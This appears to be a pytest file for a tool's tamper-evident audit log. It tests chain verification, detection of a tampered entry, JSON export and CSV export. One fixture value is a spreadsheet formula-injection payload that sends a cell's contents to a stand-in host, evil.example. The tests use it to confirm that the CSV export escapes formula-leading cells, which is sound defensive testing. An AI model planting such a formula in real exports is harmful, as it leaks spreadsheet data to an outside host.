"""The audit log from the command line, beside a sidecar or without one."""

from __future__ import annotations

import csv
import io
import json

import pytest

from sidecar.config import Config
from sidecar.desk.audit import Called
from sidecar.service import auditing
from sidecar.service.inspection import DATABASE_FILE
from sidecar.store import Database, Store
from sidecar.store.audit import Entry
from sidecar.store.key_file import load_or_create_key
from tests.sidecar.running import deskhand, running

NOW = 1_780_000_000_000
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
async def filled(config: Config) -> Store:
    """A store with three entries, the second of a tool with an evil name."""
    config.data_dir.mkdir()
    key = load_or_create_key(config.key_file)
    store = Store.open(config.data_dir / DATABASE_FILE, key)

    def fill(db: Database) -> None:
        for tool in ("search_kb", FORMULA, "create_ticket"):
            called = Called("u_1", "t" * 32, tool, "OK", {"order_id": 7})
            auditing.audit_log(key).append(db, called, NOW)

    await store.write(fill)
    return store


async def test_a_whole_log_is_told_with_its_head(config: Config, filled: Store) -> None:
    filled.close()
    told = deskhand(config, "audit", "verify")
    assert told.returncode == 0
    assert told.stdout.startswith("whole, 3 entries, head ")
    with running(config):
        assert deskhand(config, "audit", "verify").stdout == told.stdout


async def test_the_first_broken_entry_is_named(config: Config, filled: Store) -> None:
    def tamper(db: Database) -> None:
        db.execute("DROP TRIGGER audit_no_update")
        db.execute("UPDATE audit SET outcome = 'TIMEOUT' WHERE seq = 2")

    await filled.write(tamper)
    filled.close()
    told = deskhand(config, "audit", "verify")
    assert (told.returncode, told.stdout) == (1, "broken at entry 2, of 3 there\n")


async def test_the_log_is_exported_as_lines_of_json(config: Config, filled: Store) -> None:
    filled.close()
    told = deskhand(config, "audit", "export")
    entries = [Entry(**json.loads(line)) for line in told.stdout.splitlines()]
    assert [entry.tool for entry in entries] == ["search_kb", FORMULA, "create_ticket"]
    assert entries[1].previous_hash == entries[0].hash


async def test_no_cell_of_a_table_is_run(config: Config, filled: Store) -> None:
    filled.close()
    told = deskhand(config, "audit", "export", "--format", "csv")
    head, *rows = csv.reader(io.StringIO(told.stdout))
    assert head == list(Entry.__slots__)
    assert len(rows) == 3
    assert rows[1][head.index("tool")] == "'" + FORMULA
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_start_of_a_formula_is_shown_as_text(start: str) -> None:
    assert auditing._cell(f"{start}1").startswith("'")


def test_without_a_database_it_says_so(config: Config) -> None:
    refused = deskhand(config, "audit", "verify")
    assert refused.returncode == 1
    assert "There is no database" in refused.stderr


def test_another_format_is_refused(config: Config) -> None:
    assert deskhand(config, "audit", "export", "--format", "xml").returncode == 2
